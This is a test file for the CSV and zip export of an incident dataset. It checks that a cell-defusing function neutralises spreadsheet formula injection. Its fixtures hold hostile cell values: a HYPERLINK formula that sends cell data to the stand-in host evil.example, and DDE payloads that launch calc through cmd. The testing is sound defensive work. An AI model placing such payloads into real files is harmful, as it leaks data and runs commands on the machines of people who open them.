import Papa from 'papaparse';
import { unzipSync, strFromU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { IncidentProperties } from '../../../../src/data/datasetSchema.ts';
import { toDataset } from '../../../../src/data/loadDataset.ts';
import {
  BOM,
  CSV_COLUMNS,
  csvReadme,
  defuseCell,
  incidentsCsv,
  incidentsZip,
  type ExportContext,
} from '../../../../src/features/share/exportData.ts';
import {
  blankFields,
  fixtureContext,
  fixtureCoverage,
  fixtureFeatures,
  fixtureSources,
  FIXTURE_DOC,
} from '../../../fixtures/app/fixtureDataset.ts';

/** The cells an attack got through: a formula, then a line break (Papa Parse's escapeFormulae misses them). */
const FORMULA_THEN_NEWLINE = '=HYPERLINK("https://evil.example/?"&A2,"Click for the report")\nmore text';
const STARTS = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1', ' =1+1', '\u200B=1+1'];

/** A line a spreadsheet could run, as defuseCell defines it, for checking the output independently of it. */
const live = (line: string) => /^(?:[\t\r]|[\s\u200B\uFEFF]*[=+\-@＝＋－＠])/.test(line);
const lines = (cell: string) => cell.split(/\r\n|\r|\n/);

function hostileDataset() {
  const base = fixtureFeatures()[0]!;
  const properties: IncidentProperties = {
    ...base.properties,
    ...blankFields(FIXTURE_DOC),
    id: 'formula-incident',
    title: FORMULA_THEN_NEWLINE,
    summary: `A quiet first line\n=HYPERLINK("https://evil.example/?"&B2)\r\n+cmd|' /C calc'!A0`,
    people: ["@SUM(1+1)*cmd|' /C calc'!A0", '-2+3\nsecond line'],
    place: '=1+1\r\nAlmaty',
    date_note: '\tTabbed',
    other_country: '\rReturned',
  };
  const sources = fixtureSources().map((s) => ({
    ...s,
    publisher: `=HYPERLINK("https://evil.example/"),\n"quoted"`,
    period: '2011, and\n=1+1',
  }));
  return toDataset(
    [{ properties, coordinates: base.coordinates }, ...fixtureFeatures().slice(1)],
    sources,
    fixtureContext(),
    fixtureCoverage(),
  );
}

describe('defuseCell', () => {
  for (const start of STARTS) {
    it(`defuses a cell starting with ${JSON.stringify(start.slice(0, 2))}`, () => {
      const defused = defuseCell(start);
      expect(defused.startsWith("'")).toBe(true);
      expect(lines(defused).filter(live)).toEqual([]);
    });
  }

  it('defuses a formula followed by a line break', () => {
    expect(defuseCell(FORMULA_THEN_NEWLINE)).toBe(`'${FORMULA_THEN_NEWLINE}`);
  });

  it('defuses every line of a multi-line cell, keeping its line breaks', () => {
    expect(defuseCell('Quiet\r\n=1+1\n-2\rplain')).toBe("Quiet\r\n'=1+1\n'-2\rplain");
  });

  it('leaves ordinary text alone', () => {
    for (const text of ['Almaty', 'Жанаозен', '2011-12-16', 'a = b', 'e-mail @ home', '']) {
      expect(defuseCell(text)).toBe(text);
    }
  });
});

describe('the CSV of a selection', () => {
  const data = hostileDataset();

  it('starts with a byte order mark and then the header', async () => {
    const csv = await incidentsCsv(data.incidents, data);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
  });

  it('parses to one row per incident with the stable column names', async () => {
    const csv = await incidentsCsv(data.incidents, data);
    const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual([...CSV_COLUMNS]);
    expect(parsed.data.map((r) => r.id)).toEqual(data.incidents.map((i) => i.id));
  });

  it('holds no line in any cell that a spreadsheet would run, the cited publisher’s included', async () => {
    const csv = await incidentsCsv(data.incidents, data);
    const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
    const row = parsed.data.find((r) => r.id === 'formula-incident')!;
    expect(row.title).toBe(`'${FORMULA_THEN_NEWLINE}`);
    expect(row.sources).toContain('HYPERLINK');
    for (const r of parsed.data) {
      for (const [column, cell] of Object.entries(r)) {
        for (const line of lines(cell)) expect(live(line), `${r.id}.${column}: ${JSON.stringify(line)}`).toBe(false);
      }
    }
  });
});

describe('the README beside the CSV', () => {
  const data = toDataset(fixtureFeatures(), fixtureSources(), fixtureContext(), fixtureCoverage());
  const ctx: ExportContext = { data, credit: 'Data: 12 incidents. CC BY 4.0.', link: 'https://example.org/?years=2011' };

  it('carries the credit, the licence, the link and what period each report covers', () => {
    const readme = csvReadme(data.incidents, ctx, 'kz.csv');
    expect(readme).toContain(ctx.credit);
    expect(readme).toContain('CC BY 4.0');
    expect(readme).toContain(ctx.link);
    for (const s of data.sources.values())
      expect(readme).toContain(`Covers: ${s.period} (${s.coverage.kind}, ${s.coverage.from} to ${s.coverage.to})`);
  });

  it('keeps a publisher’s line break from starting a line of its own', () => {
    const hostile = hostileDataset();
    const readme = csvReadme(hostile.incidents, { ...ctx, data: hostile }, 'kz.csv');
    expect(readme.split('\r\n').filter((l) => l.startsWith('='))).toEqual([]);
  });

  it('travels in one zip with the CSV', async () => {
    const zip = await incidentsZip(data.incidents, ctx, 'kz-rights-incidents-2011');
    const files = unzipSync(new Uint8Array(await zip.arrayBuffer()));
    expect(Object.keys(files).sort()).toEqual(['README.txt', 'kz-rights-incidents-2011.csv']);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(files['kz-rights-incidents-2011.csv'])).toBe(
      await incidentsCsv(data.incidents, data),
    );
    expect(strFromU8(files['README.txt']!)).toContain(ctx.link);
  });
});
